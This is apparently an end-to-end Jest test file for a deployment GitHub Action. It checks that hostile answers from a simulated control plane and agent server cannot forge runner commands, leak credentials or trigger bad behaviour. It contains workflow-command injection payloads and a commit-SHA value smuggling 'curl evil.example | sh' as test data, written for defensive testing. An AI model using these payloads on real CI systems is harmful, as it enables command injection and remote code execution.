/**
 * End to end on the built bundle: hostile answers from the control plane and the agent server
 * (names, statuses, log lines, graph IDs, run output, URLs, commit SHAs) never drive the runner.
 * The whole stdout of each run is replayed the way the runner reads it
 * (`__tests__/helpers/runner-replay.ts`): no command but the ones the action meant.
 *
 * `E2E_DIST=<dir>/index.js` runs these cases against another build (e.g. the base commit's,
 * to count the commands forged before the fix).
 */
import { beforeEach, describe, expect, it } from '@jest/globals';
import { writeFileSync, mkdtempSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { runAction, type RunResult } from '../../scripts/run-action.js';
import { sseEvent } from '../../simulator/agent-server.js';
import { type TimelineStep } from '../../simulator/index.js';
import { useSimulator } from '../helpers/simulator.js';
import { forgedCommands, replayRunner } from '../helpers/runner-replay.js';
import {
  baseInputs,
  byRoute,
  DEPLOYMENT_PATH,
  errors,
  HEALTH_PATH,
  LOGS_PATH,
  mark,
  REPO_URL,
  REVISION_PATH,
  uniqueName,
  warnings,
} from './deploy-support.js';

/** Every payload puts the marker first in the command it tries to forge. */
const HOSTILE_LINES = [
  '::error::PWNED log error',
  '##[set-output name=url;]PWNED-url',
  'progress 50%\r::warning::PWNED after a carriage return',
  '   ::add-mask::PWNED-mask',
  'see ##[error]PWNED legacy command inside a line',
  ':::error::PWNED after three colons',
  '\u001b[31m::error::PWNED after an ANSI colour\u001b[0m',
  '\u2028::notice::PWNED after a line separator',
  '::stop-commands::PWNED-stop',
  '::error::PWNED after the forged stop-commands',
];
const HOSTILE_TEXT = 'x\n::error::PWNED-a ##[set-output name=url;]PWNED-b\r::warning::PWNED-c';

const FAILING: TimelineStep[] = [
  { status: 'QUEUED', durationMs: 30 },
  { status: 'BUILDING', durationMs: 30 },
  { status: 'BUILD_FAILED', durationMs: 0 },
];
const PASSING: TimelineStep[] = [
  { status: 'QUEUED', durationMs: 30 },
  { status: 'DEPLOYED', durationMs: 0 },
];

const sim = useSimulator({ timeline: PASSING });

beforeEach(() => sim.reset());

/** Asserts there is no forged command (with the case and the offending lines on failure). */
function expectNoForgedCommand(name: string, result: RunResult): void {
  const forged = forgedCommands(result.stdout + '\n' + result.stderr);
  expect({ name, forged: forged.map((c) => c.line) }).toEqual({ name, forged: [] });
}

/** The action's own final failure annotation is seen by the runner (not switched off). */
function expectOwnError(result: RunResult, title: RegExp): void {
  const replayed = replayRunner(result.stdout).filter((c) => c.name === 'error');
  expect(replayed.some((c) => title.test(c.props))).toBe(true);
}

function body<T>(response: { body?: unknown }): T {
  return response.body as T;
}

describe('hostile control-plane answers', () => {
  it('a hostile name, statuses and log lines forge no command, and the failure still shows', async () => {
    const seeded = sim.seedDeployment({ name: `evil-${HOSTILE_TEXT}`, repoUrl: REPO_URL });
    sim.queueTimeline(FAILING);
    // Two status answers hostile, then the real ones.
    sim.inject({
      kind: 'rewrite',
      method: 'GET',
      path: REVISION_PATH,
      times: 2,
      rewrite: (r) => ({
        ...r,
        body: { ...body<object>(r), status: `QUEUED${HOSTILE_TEXT}` },
      }),
    });
    sim.inject({
      kind: 'rewrite',
      method: 'POST',
      path: LOGS_PATH,
      times: 10,
      rewrite: (r) => {
        const page = body<{
          logs: { timestamp: string | number; level: string; message: string }[];
        }>(r);
        const at = page.logs[0]?.timestamp ?? Date.now();
        const extra = HOSTILE_LINES.map((message, i) => ({
          id: `hostile-${i}`,
          timestamp: at,
          level: 'ERROR',
          message,
        }));
        return { ...r, body: { ...page, logs: [...page.logs, ...extra] } };
      },
    });

    const result = await runAction({
      inputs: baseInputs(sim, { 'deployment-id': seeded.id, 'health-check': 'false' }),
    });

    expectNoForgedCommand('control plane: name, statuses, log lines', result);
    expect(result.code).toBe(1);
    expectOwnError(result, /BUILD_FAILED/);
    // The log lines are shown, inside a stop-commands block, as plain text.
    expect(result.stdout).toContain('PWNED log error');
    // The hostile name is not an output (not a deployment name); one warning says so.
    expect(result.outputs['name']).toBeUndefined();
    expect(
      warnings(result).filter((w) => /Output `name` not written/.test(w.message)),
    ).toHaveLength(1);
    expect(result.outputs['deployment-id']).toBe(seeded.id);
  });

  it('a URL with credentials and a commit that is no SHA: masked, checked, not written', async () => {
    const password = 's3cret-Passw0rd';
    const seeded = sim.seedDeployment({ name: uniqueName('creds'), repoUrl: REPO_URL });
    const agentUrl = new URL(sim.agentUrl(seeded.id));
    const withCredentials = `http://agent:${password}@${agentUrl.host}${agentUrl.pathname}`;
    sim.inject({
      kind: 'rewrite',
      method: 'GET',
      path: DEPLOYMENT_PATH,
      times: 50,
      rewrite: (r) => {
        const d = body<{ source_config: object }>(r);
        return {
          ...r,
          body: { ...d, source_config: { ...d.source_config, custom_url: withCredentials } },
        };
      },
    });
    sim.inject({
      kind: 'rewrite',
      method: 'GET',
      path: REVISION_PATH,
      times: 50,
      rewrite: (r) => {
        const rev = body<{ source_revision_config: object }>(r);
        return {
          ...r,
          body: {
            ...rev,
            source_revision_config: {
              ...rev.source_revision_config,
              repo_commit_sha: '0123abc"; curl evil.example | sh; echo "',
            },
          },
        };
      },
    });

    const result = await runAction({ inputs: baseInputs(sim, { 'deployment-id': seeded.id }) });

    expectNoForgedCommand('control plane: URL and commit', result);
    expect(result.code).toBe(0);
    expect(result.stdout).toContain(`::add-mask::${password}`);
    const shown = result.stdout.replace(/^::add-mask::.*$/gm, '');
    expect(shown).not.toContain(password);
    expect(result.summary).not.toContain(password);
    expect(result.outputs['url']).toBe(sim.agentUrl(seeded.id));
    expect(result.outputs['commit-sha']).toBeUndefined();
    expect(
      warnings(result)
        .map((w) => w.message)
        .join('\n'),
    ).toMatch(/Output `commit-sha` not written/);
  });

  it('two deployments with the exact name: an error naming both IDs, nothing changed', async () => {
    const name = uniqueName('twin');
    const seeded = sim.seedDeployment({ name, repoUrl: REPO_URL });
    const twinId = '11111111-2222-4333-8444-555555555555';
    sim.inject({
      kind: 'rewrite',
      method: 'GET',
      path: '/v2/deployments',
      times: 10,
      rewrite: (r) => {
        const list = body<{ resources: { id: string; name: string }[] }>(r);
        const twins = list.resources.map((d) => ({ ...d, id: twinId }));
        return { ...r, body: { ...list, resources: [...list.resources, ...twins] } };
      },
    });
    const log = mark(sim);

    const result = await runAction({
      inputs: baseInputs(sim, { name, 'integration-id': '5c1a4b2e-8f3d-4e6a-9b7c-0d1e2f3a4b5c' }),
    });

    expect(result.code).toBe(1);
    const message = errors(result)
      .map((e) => e.message)
      .join('\n');
    expect(message).toContain(seeded.id);
    expect(message).toContain(twinId);
    const requests = log.since();
    expect(requests.filter((r) => r.method !== 'GET')).toEqual([]);
  });
});

describe('oversized answers', () => {
  it('an answer over 16 MiB fails the lookup with "answer too large", nothing sent after', async () => {
    sim.inject({
      kind: 'rewrite',
      method: 'GET',
      path: '/v2/deployments',
      times: 10,
      rewrite: (r) => ({ ...r, raw: `${' '.repeat(17 * 1024 * 1024)}${JSON.stringify(r.body)}` }),
    });
    const log = mark(sim);

    const result = await runAction({
      inputs: baseInputs(sim, {
        name: uniqueName('huge'),
        'integration-id': '5c1a4b2e-8f3d-4e6a-9b7c-0d1e2f3a4b5c',
      }),
    });

    expect(result.code).toBe(1);
    expect(
      errors(result)
        .map((e) => e.message)
        .join('\n'),
    ).toMatch(/answer too large \(over 16 MiB\)/);
    // Not retried, and nothing created on an answer the action could not read.
    expect(log.since().map((r) => `${r.method} ${r.path}`)).toEqual(['GET /v2/deployments']);
  });
});

describe('hostile agent-server answers', () => {
  it('a hostile graph ID and run output of a passing smoke run forge no command', async () => {
    sim.setAgentDefaults({ graphs: [`agent${HOSTILE_TEXT}`] });
    const seeded = sim.seedDeployment({ name: uniqueName('agent-ok'), repoUrl: REPO_URL });
    sim.inject({
      kind: 'rewrite',
      method: 'POST',
      path: /\/runs\/stream$/,
      rewrite: (r) => ({
        ...r,
        sse: (r.sse ?? []).map((event) =>
          event.startsWith('event: values')
            ? sseEvent('values', { messages: [{ type: 'ai', content: HOSTILE_LINES.join('\n') }] })
            : event,
        ),
      }),
    });

    const result = await runAction({
      inputs: baseInputs(sim, {
        'deployment-id': seeded.id,
        'smoke-test': '{"messages":[{"role":"user","content":"hi"}]}',
      }),
    });

    expectNoForgedCommand('agent server: graph ID, run output (passing)', result);
    expect(result.code).toBe(0);
    expect(result.stdout).toMatch(/Smoke run passed/);
  });

  it('hostile graph IDs and run output of a failing smoke run forge no command', async () => {
    sim.setAgentDefaults({
      graphs: [`agent${HOSTILE_TEXT}`],
      run: 'error',
      errorMessage: `boom\n${HOSTILE_LINES.join('\n')}`,
    });
    const seeded = sim.seedDeployment({ name: uniqueName('agent'), repoUrl: REPO_URL });

    const result = await runAction({
      inputs: baseInputs(sim, {
        'deployment-id': seeded.id,
        'smoke-test': '{"messages":[{"role":"user","content":"hi"}]}',
      }),
    });

    expectNoForgedCommand('agent server: graph ID, run error', result);
    expect(result.code).toBe(1);
    expectOwnError(result, /Smoke run failed/);
  });

  it('a redirecting /ok fails at once, saying "redirect" and naming the target host', async () => {
    const seeded = sim.seedDeployment({ name: uniqueName('redirect'), repoUrl: REPO_URL });
    sim.inject({
      kind: 'status',
      method: 'GET',
      path: HEALTH_PATH,
      status: 302,
      headers: { location: 'https://elsewhere.example/login?next=/ok' },
      times: 1000,
    });
    const log = mark(sim);

    const result = await runAction({
      inputs: baseInputs(sim, { 'deployment-id': seeded.id, timeout: '120' }),
    });

    expect(result.code).toBe(1);
    const message = errors(result)
      .map((e) => e.message)
      .join('\n');
    expect(message).toMatch(/redirect/i);
    expect(message).toContain('elsewhere.example');
    expect(byRoute(log.since(), 'GET', HEALTH_PATH)).toHaveLength(1);
  });
});

describe('the process', () => {
  it('exits once its result is written, while a background request still hangs', async () => {
    const seeded = sim.seedDeployment({ name: uniqueName('hang'), repoUrl: REPO_URL });
    // The revisions list (read in the background for the polling policy) never answers in
    // time: the run must not wait for it.
    sim.inject({
      kind: 'hang',
      method: 'GET',
      path: `/v2/deployments/${seeded.id}/revisions`,
      times: 10,
    });

    const result = await runAction({
      inputs: baseInputs(sim, { 'deployment-id': seeded.id, timeout: '120' }),
      // Far below `timeout` and the 30 s request timeout: a run that waits fails here.
      timeoutMs: 20_000,
    });

    expect(result.code).toBe(0);
    const lists = byRoute(sim.requests, 'GET', `/v2/deployments/${seeded.id}/revisions`);
    expect(lists.length).toBeGreaterThan(0);
    // Never answered: the action exited with the request in flight.
    expect(lists.every((r) => r.status === 0 || r.status === 'reset')).toBe(true);
  });

  it('warns, naming GITHUB_EVENT_PATH, when a pull-request payload is missing, empty or not JSON', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'event-'));
    const empty = join(dir, 'empty.json');
    const notJson = join(dir, 'bad.json');
    writeFileSync(empty, '');
    writeFileSync(notJson, '{"pull_request": ');
    for (const path of [join(dir, 'missing.json'), empty, notJson]) {
      const result = await runAction({
        inputs: baseInputs(sim, { command: 'delete', name: uniqueName('gone') }),
        event: { name: 'pull_request' },
        env: { GITHUB_EVENT_PATH: path },
      });
      expect(result.code).toBe(0);
      const text = warnings(result)
        .map((w) => w.message)
        .join('\n');
      expect(text).toContain('GITHUB_EVENT_PATH');
      expect(text).toMatch(/fork check and the pull-request comment/);
    }
  });
});
